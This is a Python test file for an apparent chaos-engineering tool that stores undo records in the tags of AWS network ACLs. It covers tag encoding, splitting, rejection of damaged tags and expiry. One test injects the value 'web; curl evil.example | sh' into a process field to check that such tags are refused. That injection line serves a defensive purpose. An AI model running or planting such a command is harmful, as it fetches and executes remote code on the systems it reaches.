"""Undo from AWS alone: what is in the tags of a blocking network ACL."""

from typing import Any

import pytest

from chaosgrade.aws import Call
from chaosgrade.changes import manifest
from chaosgrade.changes.group_processes import SuspendedProcesses
from chaosgrade.changes.instance import InstanceState
from chaosgrade.changes.journal import Entry, State
from chaosgrade.changes.manifest import Former, Trace
from chaosgrade.changes.model import address
from chaosgrade.changes.network_acl import SubnetAcl
from chaosgrade.changes.process import ProcessState
from tests.canned_aws import CannedAws


def formers(count: int) -> list[Former]:
    subnets = [
        Former(SubnetAcl("vpc-1", f"subnet-{n:017x}", "us-east-1a"), f"acl-{n % 3}", "chaosgrade:x")
        for n in range(count // 2)
    ]
    instances = [
        Former(InstanceState(f"i-{n * 7919:017x}", "us-east-1a"), "running", "stopped")
        for n in range(count - len(subnets))
    ]
    return [*subnets, *instances]


@pytest.mark.parametrize("count", [1, 40, 3000])
def test_what_was_written_is_read_again(count: int) -> None:
    """However many tags, and network ACLs, it takes."""
    parts = manifest.written(formers(count), run="r1", expires=1_800_000_000.0)
    items = [item for tags in parts for item in manifest.read(tags)]
    wanted = [(f.setting.kind, address(f.setting), f.before, f.wanted) for f in formers(count)]
    assert items == wanted
    for tags in parts:
        assert len(tags) <= 50 - 3  # the name, the opt-in tag and the ACL's own come on top
        assert all(len(key) <= 128 and len(value) <= 256 for key, value in tags.items())


def test_a_large_zone_takes_several_network_acls() -> None:
    """A resource takes 50 tags."""
    assert len(manifest.written(formers(3000), run="r1", expires=0.0)) > 1


@pytest.mark.parametrize("damage", ["cut", "changed", "missing", "stray"])
def test_damaged_tags_are_told_not_guessed(damage: str) -> None:
    """Restoring half of it, or something else, would be a new fault."""
    (tags,) = manifest.written(formers(40), run="r1", expires=0.0)
    last = max(key for key in tags if "undo-" in key)
    if damage == "missing":
        del tags[last]
    elif damage == "stray":
        tags[last] += "!"
    else:
        tags[last] = tags[last][:-9] if damage == "cut" else "A" * len(tags[last])
    with pytest.raises(ValueError, match=r"\w+ \w+"):  # zlib, base64 and JSON say it differently
        manifest.read(tags)


def acl(id_: str, vpc: str, tags: dict[str, str]) -> dict[str, Any]:
    listed = [{"Key": key, "Value": value} for key, value in tags.items()]
    return {"NetworkAclId": id_, "VpcId": vpc, "Tags": listed}


def tagged(name: str, run: str, expires: float, *formers: Former) -> dict[str, str]:
    (tags,) = manifest.written(formers, run=run, expires=expires)
    return {"Name": "n", "chaosgrade:acl": name, **tags}


def test_traces_are_what_a_journal_would_hold() -> None:
    """By run; the network ACLs themselves come after what they carry, whatever cannot be read."""
    subnet = Former(SubnetAcl("vpc-1", "subnet-1", "us-east-1a"), "acl-9", "chaosgrade:x")
    off = Former(InstanceState("i-1", "us-east-1a"), "running", "stopped")
    first, second = tagged("x", "r1", 50.0, subnet), tagged("y", "r1", 40.0, off, subnet)
    later = {"chaosgrade:acl": "z", "chaosgrade:run": "r0", "chaosgrade:undo-00": "no"}
    unnamed = {"chaosgrade:acl": "w"}
    wrong = {**tagged("v", "r1", 60.0, off), "chaosgrade:expires": "soon"}
    found = [
        acl("acl-1", "vpc-1", first), acl("acl-5", "vpc-1", wrong), acl("acl-2", "vpc-2", second),
        acl("acl-3", "vpc-1", later), acl("acl-4", "vpc-1", unnamed),
    ]  # fmt: skip
    aws: Any = CannedAws({"DescribeNetworkAcls": {"NetworkAcls": found}})
    r0, r1, unknown = manifest.traces(aws)
    filters = [{"Name": "tag-key", "Values": ["chaosgrade:acl"]}]
    assert aws.sent == [Call("ec2", "DescribeNetworkAcls", {"Filters": filters})]
    assert r0 == Trace("r0", 0.0, (), ("acl-3",))
    assert unknown == Trace("unknown", 0.0, (), ("acl-4",))

    def entry(id_: int, wave: int, kind: str, address: str, text: str, was: Any, is_: Any) -> Entry:
        return Entry(
            id_, "r1", 0, wave, kind, address, text, True, was, is_, State.INTENDED, "", 0.0, 0.0
        )

    def itself(id_: int, vpc: str, name: str, tags: dict[str, str]) -> Entry:
        ours = {key: value for key, value in tags.items() if key != "Name"}
        text = f"create a network ACL that denies everything in {vpc}"
        address = f'{{"name": "{name}", "vpc_id": "{vpc}"}}'
        return entry(id_, 0, "ec2:blocking-acl", address, text, None, ours)

    cut = entry(
        1, 2, "ec2:subnet-acl",
        '{"subnet_id": "subnet-1", "vpc_id": "vpc-1", "zone": "us-east-1a"}',
        "cut subnet-1 in us-east-1a off", "acl-9", "chaosgrade:x",
    )  # fmt: skip
    power = entry(
        3, 2, "ec2:instance-state", '{"instance_id": "i-1", "zone": "us-east-1a"}',
        "power off i-1 in us-east-1a", "running", "stopped",
    )  # fmt: skip
    assert (r1.run, r1.expires, r1.unreadable) == ("r1", 50.0, ("acl-5",))
    assert set(map(repr, r1.entries)) == set(
        map(repr, [itself(0, "vpc-1", "x", first), cut, itself(2, "vpc-2", "y", second), power])
    )


def test_what_two_transactions_have_found_suspended_is_resumed_once() -> None:
    """The second has changed nothing of it, whichever network ACL is listed first."""
    group = SuspendedProcesses("web", ("Launch",))
    first = tagged("x", "r1", 50.0, Former(group, [], ["Launch"]))
    second = tagged("y", "r1", 60.0, Former(group, ["Launch"], ["Launch"]))
    for found in ([first, second], [second, first]):
        acls = [acl(f"acl-{n}", "vpc-1", tags) for n, tags in enumerate(found)]
        (trace,) = manifest.traces(CannedAws({"DescribeNetworkAcls": {"NetworkAcls": acls}}))  # type: ignore[arg-type]
        values = [(e.wave, e.before, e.wanted) for e in trace.entries if e.kind == group.kind]
        assert values == [(1, [], ["Launch"])]
        assert [e.id for e in trace.entries] == [0, 1, 2]  # an undo keeps them apart by it


def test_tags_have_nothing_done_but_what_a_zone_fault_has_changed(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Whoever may tag a network ACL may not run commands on instances, nor break a recovery."""
    process = ProcessState("i-1", "us-east-1a", "web; curl evil.example | sh")
    tags = tagged("x", "r1", 50.0, Former(process, "running", "stopped"))
    aws: Any = CannedAws({"DescribeNetworkAcls": {"NetworkAcls": [acl("acl-1", "vpc-1", tags)]}})
    assert manifest.traces(aws) == [Trace("r1", 50.0, (), ("acl-1",))]
    with monkeypatch.context() as patch:
        patch.setattr(manifest, "address", lambda setting: {"no": "such field"})
        off = Former(InstanceState("i-1", "us-east-1a"), "running", "stopped")
        tags = tagged("x", "r1", 50.0, off)
    aws = CannedAws({"DescribeNetworkAcls": {"NetworkAcls": [acl("acl-1", "vpc-1", tags)]}})
    assert manifest.traces(aws) == [Trace("r1", 50.0, (), ("acl-1",))]


def test_a_trace_expires_with_the_last_of_its_network_acls() -> None:
    """One that does not tell when counts for nothing."""
    off = Former(InstanceState("i-1", "us-east-1a"), "running", "stopped")
    found = [
        acl(f"acl-{n}", "vpc-1", tagged(f"x{n}", "r1", expires, off))
        for n, expires in enumerate((40.0, 60.4, 50.0, 0.0))
    ]
    del found[3]["Tags"][3]
    aws: Any = CannedAws({"DescribeNetworkAcls": {"NetworkAcls": found}})
    (trace,) = manifest.traces(aws)
    assert (trace.expires, trace.unreadable) == (60.0, ())


def test_what_fits_stays_together_and_what_does_not_is_halved(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Each half is a manifest of its own."""
    (whole,) = manifest.written(formers(100), run="r1", expires=0.0)
    parts = [key for key in whole if "undo-" in key]
    assert parts == [f"chaosgrade:undo-{n:02}" for n in range(len(parts))]
    monkeypatch.setattr(manifest, "_PARTS", len(parts))
    assert manifest.written(formers(100), run="r1", expires=0.0) == [whole]
    monkeypatch.setattr(manifest, "_PARTS", len(parts) - 1)
    halves = manifest.written(formers(100), run="r1", expires=0.0)
    assert [len(manifest.read(half)) for half in halves] == [50, 50]
    assert {(half[manifest.RUN_TAG], half[manifest.EXPIRES_TAG]) for half in halves} == {
        ("r1", "0")
    }
